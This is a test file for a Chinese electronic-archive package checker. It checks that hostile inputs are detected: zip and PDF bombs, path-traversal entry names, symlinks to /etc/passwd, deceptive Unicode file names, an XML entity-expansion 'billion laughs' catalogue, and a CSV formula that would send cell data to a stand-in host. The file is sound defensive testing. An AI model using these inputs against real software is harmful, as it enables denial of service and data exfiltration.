import { createCipheriv } from 'node:crypto';
import { mkdirSync, readFileSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { readSheet } from 'read-excel-file/node';
import type { ConformanceReport } from '../../src/conformance/model.js';
import { writeRectification } from '../../src/report/xlsx/rectification.js';
import { gb18030 } from '../gb18030.js';
import { endPlay, playScanner } from '../played-scanner.js';
import { hostileZip, writeHostileZip, type HostileEntry } from './hostile-zip.js';
import { pdfBomb } from './hostile-pdf.js';
import { check, place } from './packages.js';
import { folderWith, packageFolder, problemsIn, sound } from './sound.js';

const megabytes = 2 ** 20;

afterEach(endPlay);

/** The sound package as a ZIP, and these entries in it. */
async function zipWith(entries: readonly HostileEntry[]): Promise<string> {
  const path = place('package.zip');
  await writeHostileZip(path, [...[...sound].map(([name, bytes]) => ({ name, bytes })), ...entries]);
  return path;
}

/** Path to fault of every file that is told to have one; reports cut long paths off. */
function faultsIn(report: ConformanceReport): Record<string, string> {
  const told = report.checks.filter(({ id }) => ['A001', 'A002', 'A003', 'A004'].includes(id)).flatMap(({ samples }) => samples);
  return Object.fromEntries(told.map(({ key, values }) => [key['FILEPATH']!.slice(0, 50), values['FAULT']!]));
}

const failedIn = ({ checks }: ConformanceReport) =>
  checks.filter(({ outcome, severity }) => outcome === 'fail' && severity === 'error').map(({ id }) => id);

describe('a ZIP', () => {
  it('that inflates a thousandfold is told of and not unpacked', async () => {
    const report = await check(await zipWith([{ name: '电子档案/bomb.pdf', zeros: 300 * megabytes }]));
    expect(faultsIn(report)).toEqual({ '电子档案/bomb.pdf': '压缩炸弹' });
    expect(report.verdict.decision).not.toBe('accept');
  });

  it('with one such entry among many files loses that entry only', async () => {
    const noise = createCipheriv('aes-128-ctr', Buffer.alloc(16), Buffer.alloc(16)).update(Buffer.alloc(2_560_000));
    const report = await check(
      await zipWith([
        { name: '其他/noise.bin', bytes: noise, compress: false },
        { name: '电子档案/bomb.pdf', zeros: 64 * megabytes },
      ]),
    );
    expect(faultsIn(report)).toMatchObject({ '电子档案/bomb.pdf': '压缩炸弹' });
    expect(problemsIn(report)).toEqual([]);
  });

  it('within a package, or as a document of one, may be a bomb too', async () => {
    const inner = await hostileZip([{ name: 'a', zeros: 200 * megabytes }]);
    const nested = await hostileZip([{ name: 'inner.zip', bytes: inner }]);
    const document = await hostileZip([{ name: 'OFD.xml', zeros: 100 * megabytes }]);
    const report = await check(folderWith({ '电子档案/a.zip': inner, '电子档案/b.zip': nested, '电子档案/c.ofd': document }));
    expect(faultsIn(report)).toEqual({ '电子档案/a.zip': '压缩炸弹', '电子档案/c.ofd': '压缩炸弹' });
    expect(report.checks.find(({ id }) => id === 'A010')!.samples.map(({ key }) => key['FILEPATH'])).toEqual([
      '电子档案/a.zip',
      '电子档案/b.zip',
      '电子档案/c.ofd',
    ]);
  });

  it('with names that lead out of it, links, twins, huge and deep names has each told, and opens none', async () => {
    const long = `其他/${'长'.repeat(10_000)}.txt`;
    const deep = `其他/${'d/'.repeat(200)}x.txt`;
    const report = await check(
      await zipWith([
        { name: '../../evil.txt' },
        { name: '/etc/evil.txt' },
        { name: 'C:/evil.txt' },
        { name: '..\\evil.txt' },
        { name: '其他/link', bytes: Buffer.from('/etc/passwd'), mode: 0o120777 },
        { name: '其他/loop', bytes: Buffer.from('.'), mode: 0o120777 },
        { name: '其他/twin.txt' },
        { name: '其他/twin.txt' },
        { name: '其他/\u202etxt.exe' },
        { name: '其他/a\u200b.txt' },
        { name: long },
        { name: deep },
      ]),
    );
    expect(faultsIn(report)).toEqual({
      '../../evil.txt': '路径越界',
      '/etc/evil.txt': '路径越界',
      'C:/evil.txt': '路径越界',
      '..\\evil.txt': '路径越界',
      '其他/link': '符号链接',
      '其他/loop': '符号链接',
      '其他/twin.txt': '重名',
      '其他/\\u{202e}txt.exe': '名称不合法',
      '其他/a\\u{200b}.txt': '名称不合法',
      [long.slice(0, 50)]: '名称过长',
      [deep.slice(0, 50)]: '嵌套过深',
    });
  });

  it('with names in GB18030 is read as if they were in UTF-8', async () => {
    const path = place('gb.zip');
    const entries = [...sound].map(([name, bytes]) => ({ name: gb18030(name), bytes }));
    await writeHostileZip(path, entries);
    const report = await check(path);
    expect(failedIn(report)).toEqual([]);
    expect(report.run.package!.files).toBe(sound.size);
  });

  it('cut off in the middle is told to be broken', async () => {
    const bytes = readFileSync(await zipWith([]));
    const path = place('cut.zip');
    writeFileSync(path, bytes.subarray(0, bytes.length / 2));
    const report = await check(path);
    expect(problemsIn(report)).toEqual(['package.zip-broken']);
    expect(report.verdict.decision).toBe('return');
  });

  it('in which a scanner finds a virus is returned, though it does not tell in which file', async () => {
    const path = await zipWith([]);
    playScanner(place('tools'), `${path}: Eicar FOUND`);
    const report = await check(path);
    expect(problemsIn(report)).toEqual(['package.infected']);
    expect(report.verdict).toMatchObject({
      decision: 'return',
      broken: [{ measure: 'files.unread', actual: 1 }, { measure: 'unevaluated.delivered' }],
    });
  });
});

describe('a folder', () => {
  it('with links in a loop and to the outside ends, and follows none', async () => {
    const folder = packageFolder();
    mkdirSync(join(folder, '其他/a'), { recursive: true });
    symlinkSync('..', join(folder, '其他/a/up'));
    symlinkSync('self', join(folder, '其他/self'));
    symlinkSync('/etc/passwd', join(folder, '其他/passwd'));
    symlinkSync('gone', join(folder, '电子档案/gone.pdf'));
    const report = await check(folder);
    expect(faultsIn(report)).toEqual({
      '其他/a/up': '符号链接',
      '其他/self': '符号链接',
      '其他/passwd': '符号链接',
      '电子档案/gone.pdf': '符号链接',
    });
  });

  it('with a PDF whose page inflates to 256 MB of text has it given up, and no other file is held up', async () => {
    const bomb = pdfBomb(256 * megabytes);
    expect(bomb.length).toBeLessThan(10_000);
    const report = await check(folderWith({ '电子档案/bomb.pdf': bomb }));
    expect(faultsIn(report)).toEqual({ '电子档案/bomb.pdf': '压缩炸弹' });
    expect(report.checks.find(({ id }) => id === 'FILEPATH.representation' || id === 'A012')).toMatchObject({ outcome: 'pass' });
  });

  it('with a sparse file of 4 GB has it hashed whole', async () => {
    const folder = packageFolder();
    const path = '其他/sparse.bin';
    mkdirSync(join(folder, '其他'), { recursive: true });
    writeFileSync(join(folder, path), '');
    truncateSync(join(folder, path), 4 * 2 ** 30);
    const report = await check(folder);
    expect(report.run.package!.bytes).toBeGreaterThan(4 * 2 ** 30);
    expect(failedIn(report)).toEqual([]);
  });
});

describe('a catalogue', () => {
  it('with entities that grow without end is refused', async () => {
    const grow = Array.from({ length: 9 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('\n');
    const xml = `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE 案卷目录 [<!ENTITY e0 "社保">\n${grow}]>\n<案卷目录><案卷><题名>&e9;</题名></案卷></案卷目录>\n`;
    const report = await check(folderWith({ '文件目录.XML': Buffer.from(xml) }));
    expect(problemsIn(report)).toEqual([expect.stringMatching(/doctype|document-type|entit/)]);
  });

  it('whose titles are formulae is shown as text, in the rectification list too', async () => {
    const folder = packageFolder();
    const path = join(folder, '卷内文件目录.csv');
    const formula = '=HYPERLINK("http://example.invalid/?"&A1)';
    const [head, first, ...rest] = readFileSync(path, 'utf8').split('\n');
    const names = head!.split(',');
    const cells = first!.split(',');
    cells[names.indexOf('TITLE')] = `"${formula.replaceAll('"', '""')}\u0007"`;
    writeFileSync(path, [head, cells.join(','), ...rest].join('\n'));
    const report = await check(folder, { unmask: true });
    const list = place('list.xlsx');
    await writeRectification(list, report, 'zh');
    const shown = (await readSheet(list, 2))
      .flat()
      .map(String)
      .filter((cell) => cell.includes('HYPERLINK'));
    expect(shown.filter((cell) => cell.startsWith("'=")).length).toBeGreaterThan(0);
    // Where several values stand in a cell, the name of the first does before it.
    for (const cell of shown) expect(cell).toMatch(/^('=|题名（TITLE）: =)/);
  });
});
